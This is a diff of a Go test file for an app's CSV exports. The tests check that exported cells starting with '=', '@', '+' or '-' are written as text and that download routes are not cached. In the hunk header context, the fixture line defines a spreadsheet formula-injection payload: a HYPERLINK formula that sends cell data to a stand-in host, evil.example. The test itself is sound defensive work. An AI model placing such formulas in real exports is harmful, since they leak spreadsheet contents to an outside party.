@@ -23,7 +23,7 @@ const formulaName = `=HYPERLINK("http://evil.example/?d="&A2,"Open")`
 // initiative "@SUM(A1:A9)" and a title starting with "-" or "+" are written as text, and
 // amounts, negative ones too, stay numbers.
 func TestCSVExportsWriteNoFormulas(t *testing.T) {
-	app := newTestApp(t, storetest.OpenSQLite(t), false)
+	app := newTestApp(t, storetest.OpenSQLite(t))
 	ctx := context.Background()
 	p := &partner.Partner{Key: "formula-fund", Type: "foundation", Membership: "none", Status: partner.StatusActive,
 		Texts: map[string]partner.Text{"en": {Name: formulaName, Acronym: "+FF"}}}
@@ -80,7 +80,7 @@ func TestCSVExportsWriteNoFormulas(t *testing.T) {
 // cache: it holds what its reader may see. The route table is walked, so a new download cannot
 // forget it.
 func TestDownloadsAreNotCached(t *testing.T) {
-	app := newTestApp(t, storetest.OpenSQLite(t), true)
+	app := newTestApp(t, demoData.OpenSQLite(t))
 	admin := app.sessionClient(user.RoleAdmin)
 	queries := map[string]string{"/insights/export": "?panel=years&format=csv&from=2014&to=2017"}
 	downloads := 0
